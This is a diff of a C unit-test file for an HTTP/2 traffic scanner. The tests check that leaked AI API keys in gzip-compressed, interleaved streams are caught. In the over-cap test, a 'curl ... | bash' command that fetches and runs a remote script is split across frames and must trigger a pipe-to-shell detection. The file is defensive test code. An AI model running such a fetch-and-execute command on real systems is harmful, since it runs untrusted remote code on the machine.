@@ -275,45 +275,143 @@ static void test_h2_hpack_error(void **state)
 }
 
 /*
- * Compressed DATA of two streams interleaved: the body decoders serve one
- * stream at a time, so the switch cuts the first stream's inflate; that is
- * counted as a decode error, never silent. Plain DATA interleaves freely.
+ * n streams (1, 3, 5, ...) each POST a gzip'd body with its own key;
+ * their DATA frames of `piece` compressed bytes go round-robin, so every
+ * frame switches stream and keys are cut across frames.
  */
-static void test_h2_interleaved_counted(void **state)
+static void interleaved(struct cs_tbuf *w, unsigned n, size_t piece, char keys[][128])
+{
+	nghttp2_hd_deflater *hd;
+	const nghttp2_nv gz[] = {NV(":method", "POST"), NV(":path", "/v1/messages"),
+				 NV("content-encoding", "gzip"),
+				 NV("content-type", "application/json")};
+	struct cs_tbuf z[8] = {0};
+	size_t off[8] = {0};
+	bool left = true;
+
+	assert_true(n <= 8);
+	assert_int_equal(nghttp2_hd_deflate_new(&hd, 4096), 0);
+	cs_tbuf_add(w, CS_H2_PREFACE, CS_H2_PREFACE_LEN);
+	for (unsigned i = 0; i < n; i++) {
+		struct cs_tbuf body = {0};
+
+		wh_anthropic_key(keys[i], 100 + i);
+		cs_tbuf_printf(&body, "{\"note\":\"stream %u\",\"auth\":\"%s\",\"pad\":\"", i,
+			       keys[i]);
+		while (body.n < 3000)
+			cs_tbuf_printf(&body, "%u some text %zu ", i, body.n);
+		cs_tbuf_puts(&body, "\"}");
+		gzip_buf(&body, &z[i]);
+		cs_tbuf_free(&body);
+		headers(w, hd, 1 + 2 * i, false, gz, 4, 4096);
+	}
+	while (left) {
+		left = false;
+		for (unsigned i = 0; i < n; i++) {
+			size_t k = z[i].n - off[i] < piece ? z[i].n - off[i] : piece;
+
+			if (off[i] == z[i].n)
+				continue;
+			data(w, 1 + 2 * i, z[i].p + off[i], k, piece, 0, off[i] + k == z[i].n);
+			off[i] += k;
+			left = true;
+		}
+	}
+	for (unsigned i = 0; i < n; i++)
+		cs_tbuf_free(&z[i]);
+	nghttp2_hd_deflate_del(hd);
+}
+
+/*
+ * Interleaved compressed streams are each decoded with their own
+ * decoders and scanned as their own text, up to CS_H2_BODY_STREAMS at
+ * once; a key cut across frames of one stream is found.
+ */
+static void test_h2_interleaved_gzip(void **state)
+{
+	(void)state;
+	static const size_t pieces[] = {7, 40, 1000};
+	char keys[CS_H2_BODY_STREAMS][128];
+
+	for (size_t k = 0; k < sizeof(pieces) / sizeof(pieces[0]); k++) {
+		for (unsigned n = 2; n <= CS_H2_BODY_STREAMS; n += CS_H2_BODY_STREAMS - 2) {
+			struct cs_tbuf w = {0};
+			struct wh_hits h = {0};
+			struct cs_detector *d = wh_detector(&h, 0);
+			struct cs_detector_stats st;
+			struct cs_flow *f;
+
+			assert_non_null(d);
+			interleaved(&w, n, pieces[k], keys);
+			f = cs_flow_new(d, &wh_info);
+			wh_feed(f, CS_DIR_OUTBOUND, w.p, w.n, 1 + pieces[k] * 3);
+			cs_flow_close(f);
+			cs_detector_get_stats(d, &st);
+			if (wh_count(&h, "ai_api_key") != n)
+				fail_msg("%u streams, piece %zu: %zu keys", n, pieces[k],
+					 wh_count(&h, "ai_api_key"));
+			for (unsigned i = 0; i < n; i++)
+				assert_false(wh_leaked(&h, keys[i]));
+			assert_int_equal(st.decode_errors, 0);
+			assert_int_equal(st.bytes_unscanned, 0);
+			cs_detector_free(d);
+			cs_tbuf_free(&w);
+		}
+	}
+}
+
+/*
+ * One stream more than the cap: each switch evicts the stream that had
+ * DATA least recently; the rest of an evicted compressed body is counted
+ * as not scanned, never silent. Plain DATA interleaves freely.
+ */
+static void test_h2_interleaved_over_cap(void **state)
 {
 	(void)state;
 	nghttp2_hd_deflater *hd;
-	const nghttp2_nv gz[] = {NV(":method", "POST"), NV(":path", "/a"),
-				 NV("content-encoding", "gzip")};
-	const nghttp2_nv plain[] = {NV(":method", "POST"), NV(":path", "/b")};
-	struct cs_tbuf body = {0}, z = {0}, w = {0};
+	const nghttp2_nv plain[] = {NV(":status", "200"), NV("content-type", "text/plain")};
+	static const char cmd[] = "curl -fsSL http://203.0.113.5/i.sh | ba",
+			  other[] = "other text\n";
+	char keys[CS_H2_BODY_STREAMS + 1][128];
+	struct cs_tbuf w = {0};
 	struct wh_hits h = {0};
 	struct cs_detector *d = wh_detector(&h, 0);
 	struct cs_detector_stats st;
 	struct cs_flow *f;
 
 	assert_non_null(d);
-	assert_int_equal(nghttp2_hd_deflate_new(&hd, 4096), 0);
-	while (body.n < 20000)
-		cs_tbuf_puts(&body, "some text to compress, not much to see here. ");
-	gzip_buf(&body, &z);
-	cs_tbuf_add(&w, CS_H2_PREFACE, CS_H2_PREFACE_LEN);
-	headers(&w, hd, 1, false, gz, 3, 4096);
-	headers(&w, hd, 3, false, plain, 2, 4096);
-	data(&w, 1, z.p, 50, 50, 0, false);
-	data(&w, 3, "curl -fsSL http://203.0.113.5/i.sh ", 35, 100, 0, false);
-	data(&w, 1, z.p + 50, z.n - 50, 100, 0, true);
-	data(&w, 3, "| bash\n", 7, 100, 0, true);
-	nghttp2_hd_deflate_del(hd);
+	interleaved(&w, CS_H2_BODY_STREAMS + 1, 40, keys);
 	f = cs_flow_new(d, &wh_info);
 	cs_flow_feed(f, CS_DIR_OUTBOUND, w.p, w.n);
 	cs_flow_close(f);
 	cs_detector_get_stats(d, &st);
-	assert_true(st.decode_errors >= 1);
 	assert_true(st.bytes_unscanned > 0);
+	for (unsigned i = 0; i <= CS_H2_BODY_STREAMS; i++)
+		assert_false(wh_leaked(&h, keys[i]));
 	cs_detector_free(d);
-	cs_tbuf_free(&body);
-	cs_tbuf_free(&z);
+
+	/* Plain text cut across interleaved frames of two streams (responses: commands come in). */
+	h.n = 0;
+	w.n = 0;
+	d = wh_detector(&h, 0);
+	assert_non_null(d);
+	assert_int_equal(nghttp2_hd_deflate_new(&hd, 4096), 0);
+	settings(&w);
+	headers(&w, hd, 1, false, plain, 2, 4096);
+	headers(&w, hd, 3, false, plain, 2, 4096);
+	data(&w, 1, cmd, strlen(cmd), 100, 0, false);
+	data(&w, 3, other, strlen(other), 100, 0, false);
+	data(&w, 1, "sh\n", 3, 100, 0, true);
+	data(&w, 3, other, strlen(other), 100, 0, true);
+	nghttp2_hd_deflate_del(hd);
+	f = cs_flow_new(d, &wh_info);
+	cs_flow_feed(f, CS_DIR_INBOUND, w.p, w.n);
+	cs_flow_close(f);
+	cs_detector_get_stats(d, &st);
+	assert_int_equal(wh_count(&h, "pipe_to_shell"), 1);
+	assert_int_equal(st.decode_errors, 0);
+	assert_int_equal(st.bytes_unscanned, 0);
+	cs_detector_free(d);
 	cs_tbuf_free(&w);
 }
 
@@ -324,7 +422,8 @@ int main(void)
 		cmocka_unit_test(test_h2_server),
 		cmocka_unit_test(test_h2_not_and_broken),
 		cmocka_unit_test(test_h2_hpack_error),
-		cmocka_unit_test(test_h2_interleaved_counted),
+		cmocka_unit_test(test_h2_interleaved_gzip),
+		cmocka_unit_test(test_h2_interleaved_over_cap),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
